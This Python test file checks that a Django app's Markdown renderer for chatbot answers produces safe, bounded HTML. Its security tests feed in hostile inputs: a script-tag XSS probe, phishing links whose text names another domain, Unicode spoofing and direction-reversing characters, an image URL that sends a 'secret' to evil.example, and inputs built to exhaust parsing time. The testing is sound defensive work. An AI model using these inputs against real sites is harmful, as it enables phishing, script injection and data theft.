"""Rendering the Markdown of answers: the HTML on a visitor's page is complete and harmless."""

import os
import subprocess
import sys
from urllib.parse import urlsplit

import pytest
from django.urls import reverse
from lxml import html

from logs.models import Conversation, Message
from puffer.text import markdown
from puffer.text.markdown import render
from tests.support.attacks.markdown import PAYLOADS, assert_harmless
from tests.support.processor import cpu_milliseconds
from tests.support.repository import ROOT

LINK = ' target="_blank" rel="nofollow noopener noreferrer"'

# Formatting


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", ""),
        ("Hello", "<p>Hello</p>"),
        ("a\nb\n\nc", "<p>a<br>\nb</p>\n<p>c</p>"),
        ("**a** *b* ~~c~~ `d <b>`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d &lt;b&gt;</code></p>"),
        ("# a\n### b", "<h1>a</h1>\n<h3>b</h3>"),
        ("- a\n  - b", "<ul>\n<li>a\n<ul>\n<li>b</li>\n</ul>\n</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>"),
        ("```python\nif a < b:\n```", "<pre><code>if a &lt; b:\n</code></pre>"),
        ("---", "<hr>"),
        (
            "|a|b|\n|-|-:|\n|1|**2**|",
            "<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n"
            "<td><strong>2</strong></td>\n</tr>\n</tbody>\n</table>",
        ),
        ("[a](https://b.example/?c=1&d=2)", f'<p><a href="https://b.example/?c=1&amp;d=2"{LINK}>a</a></p>'),
        ("[a](http://b.example 'title')", f'<p><a href="http://b.example"{LINK}>a</a></p>'),
        ("[a](mailto:b@c.example)", f'<p><a href="mailto:b@c.example"{LINK}>a</a></p>'),
        ("<https://b.example>", f'<p><a href="https://b.example"{LINK}>https://b.example</a></p>'),
        ("<b@c.example>", f'<p><a href="mailto:b@c.example"{LINK}>b@c.example</a></p>'),
        ("![a **picture** <x>](https://b.example/c.png) b", "<p>a picture &lt;x&gt; b</p>"),
        ("[![a](https://b.example/c.png)](https://d.example)", f'<p><a href="https://d.example"{LINK}>a</a></p>'),
        ("a\x00b", "<p>ab</p>"),
        ("half \ud83d of a pair", "<p>half ? of a pair</p>"),
        ("[a]\n\n[a]: https://b.example", f'<p>[a]</p>\n<p>[a]: <a href="https://b.example"{LINK}>https://b.example</a></p>'),
        ("3~5 days, 5~7 days, \\~a\\~", "<p>3~5 days, 5~7 days, ~a~</p>"),  # a single tilde is literal
        ("`[a]: ~b~ <c>` \\<b>", "<p><code>[a]: ~b~ &lt;c&gt;</code> &lt;b&gt;</p>"),
        ("[a **b**](/c) [d](e.html)", "<p>[a <strong>b</strong>](/c) [d](e.html)</p>"),
        ("<div>\n**a**\n</div>", "<p>&lt;div&gt;<br>\n<strong>a</strong><br>\n&lt;/div&gt;</p>"),
        ("_a_<br>b", "<p><em>a</em>&lt;br&gt;b</p>"),
        ("[a](http://[::1]:80/~b)", f'<p><a href="http://[::1]:80/~b"{LINK}>a</a></p>'),
        ("[a](<https://b.example/c d>)", f'<p><a href="https://b.example/c%20d"{LINK}>a</a></p>'),
    ],
)  # fmt: skip
def test_markdown_is_rendered(text, expected):
    assert render(text).strip() == expected


@pytest.mark.parametrize(
    ("text", "url", "rest"),
    [
        ("See https://a.example/b_c_d.", "https://a.example/b_c_d", "."),
        ("(see https://a.example)", "https://a.example", ")"),
        ("https://a.example/b_(c), d", "https://a.example/b_(c)", ", d"),
        ("(https://a.example/b_(c)).", "https://a.example/b_(c)", ")."),
        ("http://a.example/?b=1&c=2#d!", "http://a.example/?b=1&c=2#d", "!"),
        ("**https://a.example**", "https://a.example", ""),
        ("HTTPS://A.example?!", "HTTPS://A.example", "?!"),
        ("- https://a.example", "https://a.example", ""),
    ],
)
def test_a_url_in_the_text_is_a_link(text, url, rest):
    (link,) = html.fromstring(f"<div>{render(text)}</div>").iter("a")
    assert link.text == url
    assert link.get("href").lower() == url.lower()
    assert (link.tail or "").strip() == rest.strip()


@pytest.mark.parametrize(
    "text",
    ["`https://a.example`", "    https://a.example", "ahttps://a.example", "https://", "http://...", "ftp://a.example"],
)
def test_code_and_invalid_urls_are_not_linked(text):
    assert "<a" not in render(text)


def test_a_url_in_a_link_text_is_not_linked_again():
    assert render("[see https://a.example now](https://b.example)").count("<a ") == 1


# Security


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("https://bank.example/login", "https://evil.example"),
        ("bank.example", "https://evil.example/a"),
        ("Sign in at **www.bank.example** now", "https://evil.example"),
        ("`bank.example`", "https://evil.example"),
        ("https://bank.example", "https://bank.example.evil.example"),
        ("https://bank.example", "https://notbank.example"),
        ("bank。example", "https://evil.example"),
        ("ba*nk.exa*mple", "https://evil.example"),
        ("bank&#46;example", "https://evil.example"),
        ("b&#x202e;ank.example", "https://evil.example"),
        ("bank\u200b.example", "https://evil.example"),
        ("ba\u200dnk\u2024example", "https://evil.example"),
        ("bänk.example", "https://evil.example"),
        ("help@bank.example", "mailto:help@evil.example"),
        ("help@bank.example", "https://evil.example"),
        ("192.0.2.1", "https://192.0.2.9"),
        ("https://bank.example", "mailto:bank.example@evil.example"),
    ],
)
def test_a_link_whose_text_names_another_address_shows_its_own(text, url):
    (link,) = html.fromstring(f"<div>{render(f'See [{text}]({url}).')}</div>").iter("a")
    assert link.text == url
    assert link.tail.strip() == ")."


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("the shop", "https://evil.example"),
        ("shop.example", "https://www.shop.example/a"),
        ("www.shop.example", "https://shop.example"),
        ("shop.example", "https://docs.shop.example"),
        ("docs.shop.example", "https://shop.example"),
        ("SHOP.example", "https://shop.EXAMPLE:8443/a?b"),
        ("straße.example", "https://straße.example"),
        ("help@shop.example", "mailto:help@shop.example?subject=x"),
        ("Node.js and index.html, version 1.2.3, e.g. this", "https://nodejs.example"),
    ],
)
def test_other_links_keep_their_text(text, url):
    (link,) = html.fromstring(f"<div>{render(f'See [{text}]({url}).')}</div>").iter("a")
    assert (link.text, link.tail) == (text, ".")


@pytest.mark.parametrize("url", ["https://bank.example@evil.example/", "https://bank.example:a@evil.example?b"])
def test_an_address_with_a_name_before_its_host_is_no_link(url):
    for text in (url, f"<{url}>", f"[a]({url})"):
        rendered = render(text)
        assert "<a" not in rendered
        assert url in rendered
    assert "<a" in render("https://a.example/@name?mail=b@c.example")


@pytest.mark.parametrize("sign", ["\u202e", "\u2066", "\u202a"])
def test_no_sign_reverses_the_text_around_it(sign):
    for text in (f"a{sign}b", f"a&#{ord(sign)};b", f"`a{sign}b`", "> " * 30 + f"a{sign}b"):
        rendered = render(text)
        assert sign not in rendered
        assert "ab" in rendered
    assert render("שלום\u200f!") == "<p>שלום\u200f!</p>\n"  # a mark without effect on others


@pytest.mark.parametrize(
    "link",
    [
        *(f"[{text}](https://c.example)" for text in ("a." * 40_000, "1." * 40_000, "a-" * 40_000, "<" * 80_000)),
        "[a.b](https://c.example) " * 2000,
        *(f"[x](https://{host}.com) " * (80_000 // len(host)) for host in ("é." * 3900, "%C3%A9." * 1100)),
        *(f"[x](https://a{marks}.com) " * (80_000 // len(marks)) for marks in ("\u0315\u0316" * 3900, "\u0315" * 7900)),
    ],
    ids=lambda link: f"{link[:20]}...",
)
def test_the_address_and_the_text_of_links_take_linear_time(link):
    assert cpu_milliseconds(lambda: render(link), 500) < 500


def test_a_link_whose_text_is_too_long_to_look_at_shows_its_address():
    assert render(f"[{'word ' * 1000}](https://c.example)").endswith('">https://c.example</a>)</p>\n')


def test_the_payloads_are_many_and_distinct():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 120


@pytest.mark.parametrize("payload", PAYLOADS)
def test_rendered_payloads_are_harmless(payload):
    for text in (payload, f"Before **that\n\n{payload}\n\nand** after", f"> - {payload}", f"|a|\n|-|\n|{payload}|"):
        assert_harmless(render(text))
    assert_harmless(markdown.as_written(payload))


@pytest.mark.parametrize("html_text", ["<b>x</b>", "<script>alert(1)</script>", "<img src=x>", "<!-- x -->", "</p>"])
def test_html_in_an_answer_is_shown_as_text(html_text):
    assert html.fromstring(render(f"a {html_text} b")).text_content().strip() == f"a {html_text} b"


def test_images_are_not_loaded():
    rendered = render("![x](https://evil.example/?q=secret) ![y][z]\n\n[z]: <https://evil.example/p.png>")
    assert "src" not in rendered
    links = html.fromstring(rendered).iter("a")  # of the bare URL in the text
    assert [urlsplit(link.get("href")).path for link in links] == ["/p.png"]


# Limits on time and size


RENDER_ALL = """
import time
import django
django.setup()
from puffer.text.markdown import render
from tests.support.attacks.markdown import assert_harmless, hostile

def seconds(text):
    started = time.process_time()
    rendered = render(text)
    taken = time.process_time() - started
    assert len(rendered) < 16 * len(text), name
    return taken, rendered

small, large = hostile(10_000), hostile(100_000)
for name in small:
    before, rendered = seconds(small[name])
    assert_harmless(rendered)
    after, _ = seconds(large[name])
    assert after < 2, (name, after)  # 0.3 s on an idle machine
    assert after < 40 * before + 0.2, (name, before, after)
print(len(small))
"""


@pytest.mark.slow
def test_hostile_texts_take_linear_time_and_give_small_html():
    run = subprocess.run(
        [sys.executable, "-c", RENDER_ALL],
        cwd=ROOT, env=os.environ | {"DJANGO_SETTINGS_MODULE": "tests.settings"},
        capture_output=True, text=True, timeout=600,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    assert int(run.stdout) > 100


@pytest.mark.parametrize(
    "text",
    [
        "> " * 30 + "deep",
        "line\r" + ">" * 10_000 + "deep\n" + "line\n" * 10_000,
        "".join("  " * depth + "- deep\n" for depth in range(30)),
        "*a **b " * 20 + "b** a*" * 20,
        "|" + "a|" * 300 + "\n|" + "-|" * 300 + "\n" + "b\n" * 4000,  # the parser makes 260,000 cells of it
    ],
)
def test_texts_that_nest_or_grow_too_much_are_shown_unformatted(text):
    shown = html.fromstring(f"<div>{render(text)}</div>").text_content()
    assert shown.split() == text.split()


@pytest.mark.parametrize("text", ["a & b © c\n" * 2000, "`" + "&" * 10_000 + "`", "https://a.example/?" + "&" * 7000])
def test_a_long_text_is_rendered_completely(text):
    shown = html.fromstring(f"<div>{render(text)}</div>").text_content()
    assert shown.split() == text.replace("`", "").split()


def test_a_long_ordinary_answer_is_formatted():
    paragraph = "Some **words** of an answer, with [a link](https://a.example) in them, and more words after it. " * 3
    listed = "- one point\n- another `point`\n\n"
    text = f"## Title\n\n{paragraph}\n\n{listed}" * 150
    assert len(text) > 45_000
    rendered = render(text)
    assert (rendered.count("<h2>"), rendered.count("<li>"), rendered.count("<a ")) == (150, 300, 450)


def test_ordinary_nesting_is_formatted():
    assert render("".join("  " * depth + "- a\n" for depth in range(7))).count("<li>") == 7
    assert render("> " * 10 + "a").count("<blockquote>") == 10


@pytest.mark.django_db
def test_a_conversation_of_long_answers_is_rendered_completely(admin_client):
    conversation = Conversation.objects.create(message_count=120)
    Message.objects.bulk_create(
        Message(conversation=conversation, role="bot", content="- a\n" * 1000) for _ in range(120)
    )
    page = admin_client.get(reverse("admin:logs_conversation_change", args=[conversation.pk]))
    assert page.text.count("<li>a</li>") == 120 * 1000
